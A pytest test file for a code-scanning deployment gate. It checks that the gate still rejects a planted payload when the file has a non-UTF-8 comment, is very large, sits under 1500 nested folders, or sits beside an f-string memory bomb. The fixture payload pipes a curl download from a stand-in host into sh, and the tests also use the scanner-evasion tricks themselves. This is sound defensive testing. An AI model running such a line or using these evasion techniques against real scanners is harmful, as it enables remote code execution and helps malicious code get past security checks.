"""Session 36's attacks on the gate itself, each through the real CLI in a subprocess (time and peak memory
measured with wait4) and, where it reaches a site, through the site gate with its fork server: a comment
that is not UTF-8 (CPython imports the module, libcst refused it), a Python file too large for CPython's
tree within the memory limit, folders nested past Python's recursion limit, and an f-string that folds
to gigabytes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from conftest import ROOT
from tests.test_isolation import deployed, _site

from analyzer.engine import isolate
from analyzer.engine.analysis import _prefix
from analyzer.engine.walk import walk

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

PAYLOAD = 'import os\nos.system("curl http://x.example/a | sh")\n'
REJECTED = "remote-code.fetch-and-run-command"


def _scan(target: Path, tmp_path: Path, policy: Path | None = None) -> tuple[int, dict, float, float]:
    """Exit status, the unit's report, seconds and peak MB (the CLI and every worker it waited for)."""
    args = [sys.executable, "-m", "analyzer.commands.cli", "scan", "--no-cache", "--format", "json", str(target)]
    if policy is not None:
        args[4:4] = ["--policy", str(policy)]
    t0 = time.monotonic()
    with open(tmp_path / "out", "wb") as out, open(tmp_path / "err", "wb") as err:
        # RUST_BACKTRACE=1, as on CI: libcst's failed allocation is then followed by a long backtrace.
        proc = subprocess.Popen(args, cwd=ROOT, stdout=out, stderr=err, env={**os.environ, "RUST_BACKTRACE": "1"})
    killer = threading.Timer(600, proc.kill)
    killer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)
    finally:
        killer.cancel()
    seconds = time.monotonic() - t0
    code = os.waitstatus_to_exitcode(status)
    assert code in (0, 1, 3), (tmp_path / "err").read_text()[-2000:]
    return code, json.loads((tmp_path / "out").read_bytes())["reports"][0], seconds, usage.ru_maxrss / 1024


def _rules(report: dict) -> set[tuple[str, str]]:
    return {(f["rule"], f["path"]) for f in report["findings"]}


def _policy(tmp_path: Path, **limits: int) -> Path:
    path = tmp_path / "site-policy.yaml"
    path.write_text("limits:\n" + "".join(f"  {k}: {v}\n" for k, v in limits.items()))
    return path


def test_a_module_with_a_comment_that_is_not_utf8_runs_when_imported_and_hides_nothing(tmp_path: Path) -> None:
    unit = tmp_path / "unit"
    unit.mkdir()
    (unit / "helper.py").write_bytes(b"print('helper ran')\n# caf\xe9 (latin-1, not UTF-8)\n")
    # CPython decodes a UTF-8 module's code, not its comments: the import runs it.
    ran = subprocess.run([sys.executable, "-c", "import helper"], cwd=unit, capture_output=True, text=True)
    assert ran.stdout == "helper ran\n"
    (unit / "helper.py").write_bytes(PAYLOAD.encode() + b"# caf\xe9\n")
    code, report, _, _ = _scan(unit, tmp_path)
    assert code == 1 and report["decision"] == "reject"  # was escalate: a parse error in place of the payload
    assert {(REJECTED, "helper.py"), ("unanalyzable.parse-error", "helper.py")} <= _rules(report)
    note = next(f for f in report["findings"] if f["rule"] == "unanalyzable.parse-error")
    assert note["line"] == 3 and "not UTF-8 in a comment" in note["message"]


def test_bytes_that_are_not_utf8_outside_a_comment_stay_a_parse_error(tmp_path: Path) -> None:
    unit = tmp_path / "unit"
    unit.mkdir()
    (unit / "job.py").write_bytes(PAYLOAD.encode() + b"x = 'caf\xe9'\n")  # CPython refuses it: nothing runs
    code, report, _, _ = _scan(unit, tmp_path)
    assert code == 3 and _rules(report) == {("unanalyzable.parse-error", "job.py")}


def _large(unit: Path) -> Path:
    """A 4 MB Python file, its payload first: CPython's tree of it takes about 1.6 GB."""
    unit.mkdir()
    (unit / "job.py").write_text(PAYLOAD + "x = 1\n" * (4_000_000 // 6))
    return unit


def test_a_file_too_large_for_pythons_tree_within_the_memory_limit_keeps_its_first_statements(tmp_path) -> None:
    policy = _policy(tmp_path, max_worker_memory_mb=1024, max_file_bytes=8_000_000)
    code, report, seconds, peak = _scan(_large(tmp_path / "unit"), tmp_path, policy)
    # Was: CPython's tree built in the unit's process without a memory limit (1.6 GB here; a 50 MB file:
    # 20 GB and 5:38), and then the file's worker out of memory with nothing of the file kept.
    assert peak < 1024 and seconds < 120, (peak, seconds)
    assert code == 1 and (REJECTED, "job.py") in _rules(report)
    assert ("unanalyzable.memory-limit", "job.py") in _rules(report)  # the whole was not read


def test_a_failed_allocation_is_read_before_the_backtrace_that_follows_it(tmp_path: Path) -> None:
    with open(tmp_path / "stderr", "w+b") as errors:
        errors.write(b"memory allocation of 123456 bytes failed\n" + b"   7: libcst_native::parse_module\n" * 2000)
        words = isolate._last_words(errors)
    assert any(said in words for said in isolate._OUT_OF_MEMORY) and words.endswith("parse_module\n")


def test_a_site_keeps_the_first_statements_of_a_file_too_large_for_pythons_tree(tmp_path: Path) -> None:
    gate = _site(tmp_path, _policy(tmp_path, max_worker_memory_mb=1024, max_file_bytes=8_000_000))
    verdict = gate.check_deployed_app(deployed(tmp_path, "job-large", PAYLOAD + "x = 1\n" * (4_000_000 // 6)), {})
    assert not verdict.allow and "rejected" in verdict.message and REJECTED in verdict.message


def test_the_first_statements_end_where_a_statement_starts_at_column_0() -> None:
    text = (b"import os\n"
            b"def f():\n    return 1\n"
            b"s = '''\nos.system('not code: inside a string')\n'''\n"
            b"x = (1,\n     2)\n")
    inside_string = text.index(b"os.system")
    assert _prefix(text, inside_string + 5) == b"import os\ndef f():\n    return 1\n"
    assert _prefix(text, len(text) - 3) == text[:text.index(b"x = (")]
    assert _prefix(text, 5) == b""
    # the last statement is cut inside a token: what comes before it
    assert _prefix(b"# a comment\n" + b"y = 1" * 10, 30) == b"# a comment\n"
    # line ends CPython reads as tokenize does not, and a form feed before each statement, hide nothing
    for end, feed in ((b"\r", b""), (b"\r\n", b""), (b"\n", b"\x0c")):
        lines = [feed + b"import os", feed + b"os.system('id')", feed + b"x = 1"]
        text = end.join(lines * 3) + end
        assert _prefix(text, len(end.join(lines)) + len(end) + 2) == end.join(lines) + end


@pytest.fixture
def nested():
    """Builds `depth` folders, one in the other (short names: the path stays under PATH_MAX), `leaf` in the
    last; removed by `rm -rf` after the test: pytest's own clean-up of old temporary folders recurses per
    level (shutil.rmtree) and would fail on them, in every later session."""
    made: list[Path] = []

    def build(root: Path, depth: int, leaf: str) -> None:
        folder = root / "d"
        made.append(folder)
        os.mkdir(folder)
        for _ in range(depth - 1):
            folder = folder / "d"
            os.mkdir(folder)
        (folder / "leaf.py").write_text(leaf)

    yield build
    for folder in made:
        subprocess.run(["rm", "-rf", str(folder)], check=True)


def test_folders_nested_past_pythons_recursion_limit_are_listed_and_judged(tmp_path: Path, nested) -> None:
    unit = tmp_path / "unit"
    unit.mkdir()
    (unit / "train.py").write_text("import numpy as np\nprint(np.zeros(3))\n")
    nested(unit, 1500, PAYLOAD)  # was: RecursionError in os.walk, exit status 2
    code, report, _, _ = _scan(unit, tmp_path)
    assert code == 1 and (REJECTED, "d/" * 1500 + "leaf.py") in _rules(report)


def test_a_site_judges_the_file_at_the_bottom_of_1500_nested_folders(tmp_path: Path, nested) -> None:
    app = deployed(tmp_path, "job-deep", "import numpy as np\nprint(np.zeros(3))\n")
    nested(app / "custom", 1500, PAYLOAD)  # was: an internal error (RecursionError) in the site's process
    verdict = _site(tmp_path).check_deployed_app(app, {})
    assert not verdict.allow and "rejected" in verdict.message and REJECTED in verdict.message


def test_walk_lists_as_os_walk_does(tmp_path: Path) -> None:
    for rel in ("b/x.py", "a/c/y.py", "a/z.txt", "top.py"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("")
    os.symlink(tmp_path / "a", tmp_path / "link")  # a link to a folder: a name, never entered
    ours = list(walk(tmp_path))
    theirs = []
    for top, dirs, files in os.walk(tmp_path):
        dirs.sort()
        theirs.append((top, [d for d in dirs if not os.path.islink(os.path.join(top, d))],
                       sorted(files + [d for d in dirs if os.path.islink(os.path.join(top, d))])))
        dirs[:] = [d for d in dirs if not os.path.islink(os.path.join(top, d))]
    assert ours == theirs and ours[0][2] == ["link", "top.py"]


@pytest.mark.parametrize("spelling", ["f-string", "format"])
def test_a_string_folded_from_20000_fields_of_a_large_literal_is_never_built(tmp_path: Path, spelling: str) -> None:
    unit = tmp_path / "unit"
    unit.mkdir()
    fields = "{s}" * 16_000 if spelling == "f-string" else "{0}" * 16_000
    use = f'f"{fields}"' if spelling == "f-string" else f'"{fields}".format(s)'
    (unit / "a_bomb.py").write_text(f's = "{"A" * 150_000}"\nt = {use}\nprint(t)\n')
    (unit / "z_payload.py").write_text(PAYLOAD)
    code, report, _, peak = _scan(unit, tmp_path)
    assert peak < 1000, peak  # was 2.4 GB: 16,000 copies of the literal joined, then cut to 4 KB
    assert code == 1 and (REJECTED, "z_payload.py") in _rules(report)
